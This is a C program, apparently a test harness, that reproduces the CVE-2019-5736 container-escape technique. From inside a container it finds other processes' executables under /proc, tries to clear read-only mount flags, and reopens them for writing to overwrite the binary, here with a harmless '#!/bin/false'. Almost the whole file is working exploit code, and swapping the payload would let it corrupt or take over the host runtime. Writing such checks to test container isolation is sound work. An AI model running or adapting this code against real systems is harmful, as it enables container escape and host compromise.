/*
 * overwrite.c - in a container: opens the program of each process that has another one than this
 * (CVE-2019-5736), by O_PATH and for reading, and tries to get a writable file from it, as long as
 * it takes. Before, it tries to make its mount writable.
 *
 *   overwrite SECONDS
 *
 * Says "ready", "seen PID" for each program that it could open, "written" where it has written,
 * "over" at the end.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif

enum { MOST = 64 };

static int held[MOST], count;
static struct stat own;

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void unlock(const char *path)
{
	struct {
		uint64_t set, clear, propagation, userns;
	} attributes = { .clear = 1 }; /* MOUNT_ATTR_RDONLY */

	syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &attributes, sizeof(attributes));
	mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
}

static void look(int pid)
{
	char path[64];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || (st.st_dev == own.st_dev && st.st_ino == own.st_ino) ||
	    count == MOST) {
		close(fd);
		return;
	}
	unlock(path);
	held[count++] = fd;
	printf("seen %d\n", pid);
	fflush(stdout);
}

static int write_all(void)
{
	static const char evil[] = "#!/bin/false\n";
	char path[64];

	for (int i = 0; i < count; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		ssize_t n = write(fd, evil, sizeof(evil) - 1);
		close(fd);
		if (n > 0)
			return 1;
	}
	return 0;
}

int main(int argc, char **argv)
{
	double end = now() + (argc > 1 ? atof(argv[1]) : 5);

	if (stat("/proc/self/exe", &own) < 0)
		return 2;
	puts("ready");
	fflush(stdout);
	while (now() < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (proc && (entry = readdir(proc)))
			if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid())
				look(atoi(entry->d_name));
		if (proc)
			closedir(proc);
		if (write_all()) {
			puts("written");
			break;
		}
	}
	puts("over");
	return 0;
}
